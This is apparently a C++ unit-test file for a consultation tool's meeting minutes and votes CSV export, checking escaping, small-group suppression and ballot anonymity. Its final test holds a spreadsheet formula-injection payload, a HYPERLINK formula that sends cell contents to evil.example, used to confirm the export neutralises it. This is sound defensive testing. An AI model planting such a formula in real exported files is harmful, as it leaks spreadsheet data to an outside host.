// Minutes and the votes CSV from fixed values, compared with the committed
// files tests/exports/minutes.{md,html} and votes.csv (regenerate with
// KENES_REGENERATE_GOLDEN=1, as report_test.cc says). The values stand for
// what the meeting and poll state of the log provide; building them from a
// real log is the adapter still to come (report/README.md, "Not yet").

#include "replay/report/minutes.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "replay/report/line_diff.h"
#include "replay/report/poll_export.h"

namespace kenes::report {
namespace {

namespace fs = std::filesystem;
namespace v1 = kenes::v1;

void expect_golden(const std::string& name, const std::string& actual) {
  fs::path path = fs::path(KENES_SOURCE_DIR) / "tests/exports" / name;
  if (std::getenv("KENES_REGENERATE_GOLDEN")) {
    std::ofstream(path, std::ios::binary) << actual;
    return;
  }
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  EXPECT_EQ(s.str(), actual) << "differs from " << path;
}

constexpr int64_t kNine = 1767258000000;  // 2026-01-01 09:00:00 UTC
constexpr int64_t kMinute = 60000;
const LogHead kHead{42, std::string(64, 'a'), kNine + 90 * kMinute};

MinutesData meeting() {
  MinutesData d;
  d.consultation_id = "kz-2026";
  d.consultation_title = "Kazakhstan 2026";
  d.meeting_id = "meeting-1";
  d.meeting_title = "Board meeting <1>";
  d.chair = "Aigerim";
  d.started_at_unix_ms = kNine;
  d.ended_at_unix_ms = kNine + 90 * kMinute;
  d.head = kHead;
  d.agenda = {"R.1 Legal framework", "R.2 Access to information"};
  d.spotlight = {{kNine + 5 * kMinute, "R.1 Legal framework"}, {kNine + 40 * kMinute, ""}};
  d.attendance = {
      {"Aigerim", v1::ROLE_CHAIR, v1::STAKEHOLDER_GROUP_GOVERNMENT, "woman", kNine, std::nullopt},
      {"Елена", v1::ROLE_MEMBER, v1::STAKEHOLDER_GROUP_CIVIL_SOCIETY, "woman", kNine + kMinute, kNine + 30 * kMinute},
      {"Nurlan", v1::ROLE_MEMBER, v1::STAKEHOLDER_GROUP_ACADEMIA, "", kNine + 2 * kMinute, std::nullopt},
      {"Елена", v1::ROLE_MEMBER, v1::STAKEHOLDER_GROUP_CIVIL_SOCIETY, "woman", kNine + 35 * kMinute, std::nullopt},
  };
  d.edits = {{"indicator/R.1", "R.1 Legal framework", 3, 7, {"Daniyar", "Aigerim"},
              unified_line_diff("# Findings\nThe law protects speech.\n", "# Findings\nThe law protects speech <online>.\n")}};
  MinutesPoll poll;
  poll.id = "poll-1";
  poll.question = "R.1 describes the legal framework accurately";
  poll.kind = "agreement";
  poll.anonymous = true;
  poll.outcome = "passed";
  poll.ballots = 3;
  poll.eligible = 3;
  poll.totals = {{"agree", "2"}, {"agree with reservations", "1"}, {"disagree", "0"}, {"abstain", "0"}};
  poll.breakdown = {"Group groups under 3 voters (3): agree 2, agree with reservations 1"};
  d.board_present = {"Nurlan", "Елена"};
  d.board_excused = {"Dana"};
  d.board_absent = {};
  // Anonymous: the words without a name (issue 18).
  poll.reservations = {"The 2019 survey is <out of date>."};
  d.polls = {poll};
  d.decisions = {"R.1 validated at draft version 7 (poll-1 passed)"};
  return d;
}

TEST(MinutesTest, MarkdownMinutesMatchTheGoldenFile) {
  std::string md = render_minutes_markdown(meeting());
  expect_golden("minutes.md", md);
  EXPECT_NE(md.find("Board: present Nurlan, Елена; excused Dana; absent none."), std::string::npos) << md;
  // Elena joined twice: one person in the counts.
  // One person in each group, and genders of 1 and 2: no count under 3 is
  // shown (issue 18); the groups under 3 are summed, and shown as such.
  EXPECT_NE(md.find("3 people. By stakeholder group: groups under 3 people 3. By gender: groups under 3 people 3."),
            std::string::npos)
      << md;
}

TEST(MinutesTest, HtmlMinutesMatchTheGoldenFileAndEscape) {
  std::string html = render_minutes_html(meeting());
  expect_golden("minutes.html", html);
  EXPECT_EQ(html.find("<1>"), std::string::npos);
  EXPECT_NE(html.find("+The law protects speech &lt;online&gt;."), std::string::npos);
  EXPECT_NE(html.find("<p>Reservations:</p>\n<ul>\n<li>The 2019 survey is &lt;out of date&gt;.</li>"), std::string::npos)
      << html;
}

TEST(MinutesTest, AttendanceCountsShowOnlyCellsOfAtLeastThreePeople) {
  MinutesData d = meeting();
  d.attendance.clear();
  auto add = [&](const std::string& name, v1::StakeholderGroup g, const std::string& gender) {
    d.attendance.push_back({name, v1::ROLE_MEMBER, g, gender, kNine, std::nullopt});
  };
  for (int i = 0; i < 4; ++i) add("gov" + std::to_string(i), v1::STAKEHOLDER_GROUP_GOVERNMENT, "woman");
  for (int i = 0; i < 3; ++i) add("acad" + std::to_string(i), v1::STAKEHOLDER_GROUP_ACADEMIA, "man");
  add("media0", v1::STAKEHOLDER_GROUP_MEDIA, "man");
  add("media1", v1::STAKEHOLDER_GROUP_MEDIA, "nonbinary");
  add("users0", v1::STAKEHOLDER_GROUP_USERS, "woman");
  const std::string md = render_minutes_markdown(d);
  EXPECT_NE(md.find("10 people. By stakeholder group: Government 4; Academia 3; groups under 3 people 3. By gender: "),
            std::string::npos)
      << md;
  // Genders: woman 5, man 4, nonbinary 1 — the 1 alone would name someone, so
  // the smallest shown count joins it.
  EXPECT_NE(md.find("By gender: woman 5; groups under 3 people 5."), std::string::npos) << md;
  EXPECT_EQ(md.find("nonbinary"), std::string::npos) << md;
  EXPECT_EQ(md.find("Media"), std::string::npos) << "no one's group beside their name:\n" << md;
}

TEST(VotesCsvTest, AnonymousBallotsCarryNoVoterGroupGenderOrTimeAndAreSortedByChoice) {
  VotesData d;
  d.consultation_id = "kz-2026";
  d.head = kHead;
  d.rows = {
      {"poll-1", "Is R.1 right?", "agreement", true, "Elena", "Civil society", "woman", kNine, "disagree"},
      {"poll-1", "Is R.1 right?", "agreement", true, "Aigerim", "Government", "woman", kNine + 1, "agree"},
      {"poll-2", "Rank, the \"priorities\"", "ranking", false, "Nurlan", "Academia", "", kNine + 2, "b > a"},
      {"poll-1", "Is R.1 right?", "agreement", true, "Nurlan", "Academia", "", kNine + 3, "agree with reservations"},
  };
  std::string csv = render_votes_csv(d);
  expect_golden("votes.csv", csv);
  for (const char* identity : {"Elena", "Aigerim", "Civil society", "Government", "woman"}) {
    EXPECT_EQ(csv.find(identity), std::string::npos) << identity << " leaked:\n" << csv;
  }
  // A named ballot: the voter and the choice, never their group or gender.
  EXPECT_NE(csv.find("poll-2,\"Rank, the \"\"priorities\"\"\",ranking,no,Nurlan,"), std::string::npos) << csv;
  EXPECT_EQ(csv.find("Academia"), std::string::npos) << csv;
  EXPECT_LT(csv.find(",agree\n"), csv.find(",agree with reservations\n"));
  EXPECT_LT(csv.find(",agree with reservations\n"), csv.find(",disagree\n"));
}

engine::Poll validation_poll(bool anonymous) {
  engine::PollDefinition def;
  def.kind = engine::PollKind::kAgreement;
  def.question = "R.1 is accurate";
  def.anonymous = anonymous;
  def.eligible_roles = {engine::Role::kMember};
  def.quorum = {1, 2};
  def.threshold = {2, 3};
  engine::Poll poll;
  EXPECT_TRUE(poll.create(def, kNine).ok());
  // Government 4, academia 3, media 1: media joins the merged groups, which then have
  // one voter, so the smallest shown group (academia) joins it too
  // (engine/README.md, "Polls").
  const char* groups[] = {"government", "government", "government", "media",
                          "government", "academia",   "academia",   "academia"};
  uint32_t choices[] = {engine::kAgree, engine::kAgree, engine::kAgreeWithReservations, engine::kDisagree,
                        engine::kAgree, engine::kAgree, engine::kAgree,                 engine::kAbstain};
  for (int i = 0; i < 8; ++i) {
    engine::CastBallot b;
    b.voter_id = "voter-" + std::to_string(i);
    b.stakeholder_group = groups[i];
    b.gender = i % 2 ? "man" : "woman";
    b.choices = {choices[i]};
    EXPECT_TRUE(poll.cast(b, kNine + (8 - i) * kMinute).ok());
  }
  return poll;
}

TEST(PollExportTest, MinutesShowTotalsOutcomeAndBreakdownsWithSmallGroupsMerged) {
  engine::Poll poll = validation_poll(true);
  ASSERT_TRUE(poll.close(kNine + 10 * kMinute).ok());
  MinutesPoll m = minutes_poll("poll-1", poll, 10, kNine + 11 * kMinute);
  EXPECT_EQ(m.kind, "agreement");
  EXPECT_EQ(m.ballots, 8u);
  EXPECT_EQ(m.eligible, 10u);
  EXPECT_EQ(m.outcome.substr(0, 6), "passed") << m.outcome;
  ASSERT_EQ(m.totals.size(), 4u);
  EXPECT_EQ(m.totals[0], (std::pair<std::string, std::string>{"agree", "5"}));
  std::string all;
  for (const auto& b : m.breakdown) all += b + "\n";
  EXPECT_NE(all.find("Group government (4): agree 3, agree with reservations 1"), std::string::npos) << all;
  EXPECT_NE(all.find("Group groups under 3 voters (4): agree 2, disagree 1, abstain 1"), std::string::npos) << all;
  EXPECT_EQ(all.find("media"), std::string::npos) << "a group of one is merged:\n" << all;
  EXPECT_EQ(all.find("academia"), std::string::npos) << all;
  for (int i = 0; i < 8; ++i) EXPECT_EQ(all.find("voter-" + std::to_string(i)), std::string::npos);
}

TEST(PollExportTest, HiddenResultsStayHiddenInMinutesWhileThePollIsOpen) {
  engine::PollDefinition def;
  def.kind = engine::PollKind::kSingleChoice;
  def.question = "Which?";
  def.options = {"a", "b"};
  def.results_hidden_until_closed = true;
  engine::Poll poll;
  ASSERT_TRUE(poll.create(def, kNine).ok());
  engine::CastBallot b;
  b.voter_id = "x";
  b.choices = {1};
  ASSERT_TRUE(poll.cast(b, kNine + 1).ok());
  MinutesPoll m = minutes_poll("poll-2", poll, 3, kNine + 2);
  EXPECT_EQ(m.outcome, "open; results hidden until it closes");
  EXPECT_TRUE(m.totals.empty());
  EXPECT_TRUE(vote_rows("poll-2", poll, kNine + 2, [](const std::string& id) { return id; }).empty())
      << "no ballot of an open poll is exported";
}

TEST(PollExportTest, AnonymousVoteRowsHoldOnlyChoicesAndNamedRowsNameTheVoterInCastOrder) {
  auto name_of = [](const std::string& id) { return "Name of " + id; };
  engine::Poll anonymous = validation_poll(true);
  ASSERT_TRUE(anonymous.close(kNine + 10 * kMinute).ok());
  auto rows = vote_rows("poll-1", anonymous, kNine + 11 * kMinute, name_of);
  ASSERT_EQ(rows.size(), 8u);
  VotesData d{"kz-2026", kHead, rows};
  std::string csv = render_votes_csv(d);
  for (const char* leak : {"voter-", "Name of", "government", "academia", "media", "woman", "man,", "09:"}) {
    EXPECT_EQ(csv.find(leak), std::string::npos) << leak << " in\n" << csv;
  }
  engine::Poll named = validation_poll(false);
  ASSERT_TRUE(named.close(kNine + 10 * kMinute).ok());
  auto named_rows = vote_rows("poll-3", named, kNine + 11 * kMinute, name_of);
  ASSERT_EQ(named_rows.size(), 8u);
  EXPECT_EQ(named_rows[0].voter, "Name of voter-7");  // cast first
  EXPECT_EQ(named_rows[0].group, "academia");
  EXPECT_EQ(named_rows[0].choices, "abstain");
  EXPECT_EQ(named_rows[7].voter, "Name of voter-0");
}

// issue 17: a voter's name is theirs to choose, and the chair opens
// votes.csv in a spreadsheet: a formula stays text. (Their gender, also
// theirs to write, is no longer in the file at all: issue 18.)
TEST(VotesCsvTest, ANameThatIsAFormulaIsWrittenAsTextAndAGenderIsNotWritten) {
  const std::string formula = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click me\")";
  auto name_of = [&](const std::string&) { return formula; };
  engine::Poll named = validation_poll(false);
  ASSERT_TRUE(named.close(kNine + 10 * kMinute).ok());
  auto rows = vote_rows("poll-3", named, kNine + 11 * kMinute, name_of);
  ASSERT_FALSE(rows.empty());
  for (auto& r : rows) r.gender = "@SUM(1+1)";
  std::string csv = render_votes_csv(VotesData{"kz-2026", kHead, rows});
  for (const char* lead : {",=", ",@", ",+", ",-", "\n=", "\n@"}) {
    EXPECT_EQ(csv.find(lead), std::string::npos) << lead << " in\n" << csv;
  }
  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"https://evil.example"), std::string::npos) << csv;
  EXPECT_EQ(csv.find("SUM(1+1)"), std::string::npos) << csv;
}

}  // namespace
}  // namespace kenes::report
